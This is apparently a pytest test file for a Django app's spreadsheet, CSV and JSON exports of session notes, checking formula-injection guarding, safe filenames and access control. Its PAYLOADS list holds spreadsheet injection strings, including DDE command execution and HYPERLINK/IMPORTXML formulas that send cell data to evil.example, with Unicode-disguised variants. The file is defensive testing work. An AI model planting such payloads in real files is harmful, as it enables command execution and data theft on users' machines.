import csv
import json
from io import BytesIO, StringIO
from uuid import uuid4
from zipfile import ZipFile
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from django.utils.timezone import localtime, make_naive
from openpyxl import load_workbook

from frontend.exports.files import csv_of, workbook_of
from frontend.exports.guard import guarded
from frontend.exports.sheets import Sheet
from partnerships.models.membership import Membership
from reflections.models.session import ReflectionSession
from reflections.services.groups import group_notes
from tests import api, cast, endings
from tests.frontend_app.pages import signed_in
from tests.unchanged import nothing_changed

# Each of these is computed, or sends something somewhere, in some programme that opens sheets.
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "=WEBSERVICE(A1)",
    "=SUM(1;1)",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060@x",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫x",
    "⁼1",
    "first line\n=1+1",
    "first line\r\n@SUM(1)",
    "first line\n\t\uff1d1",
    "first line\u2028=1+1",
    "first line\x0b=1",
    "\n\n  -1",
    "= ",
    "==1",
    "=-1",
]
HARMLESS = ["Loose rugs", "1-2", "a = b", "'=1", "", "e@mail.example", "№ 1", "·=", "3+4\nis 7"]


SIGNS = set("=+-@\uff1d\uff0b\uff0d\uff20﹦﹢﹣﹫⁼")
INVISIBLE = "\x00\ufeff\u200b\u2060\u202e \t\r\u00a0\u3000"


def lines_of(text: str) -> list[str]:
    """Return the lines as a program sees them that breaks cells at any sign of a new line."""
    return [line.strip(INVISIBLE) for line in text.splitlines()]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_line_of_a_cell_begins_like_a_formula(payload):
    lines = lines_of(guarded(payload))

    assert [line for line in lines if line[:1] in SIGNS] == []
    assert guarded(payload).replace("'", "") == payload.replace("'", "")


@pytest.mark.parametrize("text", HARMLESS)
def test_what_no_program_computes_stays_as_it_is(text):
    assert guarded(text) == text


def test_in_a_workbook_everything_that_was_written_is_text_and_stays_so_when_edited():
    rows = [(payload,) for payload in PAYLOADS]

    book = load_workbook(BytesIO(workbook_of([Sheet("notes", "Notes", ("Note",), rows)])))

    cells = [row[0] for row in book["Notes"].iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS) > 40
    assert {cell.data_type for cell in cells} == {"s"}
    first_line = [payload for payload in PAYLOADS if not payload.startswith("first line")]
    assert sum(bool(cell.quotePrefix) for cell in cells) == len(first_line)


@pytest.mark.parametrize(("language", "delimiter"), [("en", ","), ("nl", ";"), ("sv", ";")])
def test_values_are_separated_as_the_spreadsheets_of_the_language_expect(language, delimiter):
    sheet = Sheet("notes", "Notes", ("Note", "Number"), [('Rugs, "old"; loose\nand dark', 3)])

    made = csv_of(sheet, language)

    assert made.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(StringIO(made.decode("utf-8-sig"), newline=""), delimiter=delimiter))
    assert rows == [["Note", "Number"], ['Rugs, "old"; loose\nand dark', "3"]]


def test_a_workbook_has_numbers_days_and_moments_as_what_they_are():
    day, moment = cast.in_days(3), localtime(cast.in_hours(3)).replace(microsecond=0)
    sheet = Sheet("x", "X", ("A", "B", "C", "D"), [(7, day, moment, "#N/A"), (0, day, None, "1e5")])

    page = load_workbook(BytesIO(workbook_of([sheet])))["X"]

    assert [cell.value for cell in page[1]] == ["A", "B", "C", "D"]
    assert page["A2"].value == 7
    assert page["B2"].value.date() == day
    assert page["C2"].value == make_naive(moment)
    assert page["C3"].value is None
    assert [(page[place].data_type, page[place].value) for place in ("D2", "D3")] == [
        ("s", "#N/A"),
        ("s", "1e5"),
    ]
    assert page.freeze_panes == "A2"


@pytest.fixture
def session(ada: Membership, bo: Membership) -> ReflectionSession:
    """A session that goes on, with something of everything and one note that nobody may read."""
    session = cast.collecting(ada, bo, title="=Falls: at/home\r\n<b>")
    cast.proposed(ada, bo, session)
    [rug, _] = cast.revealed(bo, session, "=1+1", "Dark stairs")
    group_notes(ada, session.pk, group_id=uuid4(), note_ids=[rug.pk], title="@Light")
    cast.write(bo, session, "Still hidden")
    return session


def taken(member: Membership, name: str, session: ReflectionSession):
    return signed_in(member.person).get(reverse(name, args=[member.partnership.slug, session.pk]))


def test_those_who_run_a_session_take_all_of_it_to_a_workbook_while_it_goes_on(ada, session):
    answer = taken(ada, "export_sheet", session)

    book = load_workbook(BytesIO(answer.content))
    found = {page.title: [[cell.value for cell in row] for row in page.rows] for page in book}
    assert answer.status_code == 200
    assert {name: len(rows) - 1 for name, rows in found.items()} == {
        "Notes": 4,
        "Groups": 1,
        "Votes": 0,
        "Insights": 1,
        "Actions": 1,
    }
    assert [row[:5] for row in found["Notes"][1:] if row[0] == "=1+1"] == [
        ["=1+1", "What?", "@Light", "Bo Jansen", None]
    ]
    assert found["Insights"][1][0] == "Homes are not ready"
    assert found["Actions"][1][:4] == [
        1, "Check 40 homes for loose rugs", "Bo Jansen", "Citizens' panel",
    ]  # fmt: skip
    assert "Still hidden" not in str(found)


def test_the_same_as_values_is_safe_to_open(ada, session):
    answer = taken(ada, "export_csv", session)

    with ZipFile(BytesIO(answer.content)) as archive:
        files = {name: archive.read(name).decode("utf-8-sig") for name in archive.namelist()}
    notes = list(csv.DictReader(StringIO(files["notes.csv"], newline="")))
    assert sorted(files) == [
        "actions.csv", "groups.csv", "insights.csv", "notes.csv", "votes.csv",
    ]  # fmt: skip
    assert sorted(note["Note"] for note in notes) == [
        "'=1+1",
        "Dark stairs",
        "Loose rugs",
        "No rails",
    ]
    assert {note["In group"] for note in notes} == {"", "'@Light"}
    assert "Still hidden" not in str(files)


def test_the_same_for_programmes_keeps_every_word_as_it_was(ada, session):
    answer = api.browser_of(ada).get(api.place("api_export", ada, session_id=session.pk))

    said = json.loads(answer.content)
    assert set(said) == {
        "exported_at", "session", "columns", "groups", "notes", "votes", "insights", "actions",
    }  # fmt: skip
    assert "=1+1" in [note["text"] for note in said["notes"]]
    assert [group["title"] for group in said["groups"]] == ["@Light"]
    assert sum(column["hidden_notes"] for column in said["columns"]) == 1
    assert "Still hidden" not in answer.content.decode()


@pytest.mark.parametrize(
    ("name", "ending"), [("export_sheet", "xlsx"), ("export_csv", "zip"), ("report_pdf", "pdf")]
)
def test_a_file_has_a_name_that_no_title_can_spoil(ada, session, name, ending):
    answer = taken(ada, name, session)

    day = localtime(session.starts_at, ZoneInfo(session.partnership.time_zone)).date().isoformat()
    assert answer.headers["Content-Disposition"] == (
        f'attachment; filename="falls-athome-b-{day}.{ending}"'
    )
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Cache-Control"] == "private, no-store"


@pytest.mark.parametrize("title", ["مرحبا", "...", "../../etc"])
def test_a_title_without_plain_letters_still_gives_a_name(ada, title):
    session = cast.collecting(ada, title=title)

    disposition = taken(ada, "export_sheet", session).headers["Content-Disposition"]

    assert ".." not in disposition
    assert disposition.startswith(('attachment; filename="session-', 'attachment; filename="etc-'))


@pytest.mark.parametrize("name", ["export_sheet", "export_csv"])
def test_nobody_else_takes_it(cem, bo, dag, otto, session, name):
    with nothing_changed():
        found = {
            member.person.name: taken(member, name, session).status_code
            for member in (cem, bo, dag, otto)
        }

    # Cem may, once he has joined; the others never.
    assert set(found.values()) == {403}


def test_a_manager_takes_a_finished_session_without_having_joined(cem, ada):
    session = cast.collecting(ada)
    cast.proposed(ada, ada, session)
    endings.closed(ada, session)

    assert taken(cem, "export_sheet", session).status_code == 200


def test_an_empty_session_gives_empty_sheets(ada):
    session = cast.collecting(ada)

    book = load_workbook(BytesIO(taken(ada, "export_sheet", session).content))

    assert [page.max_row for page in book] == [1] * 5
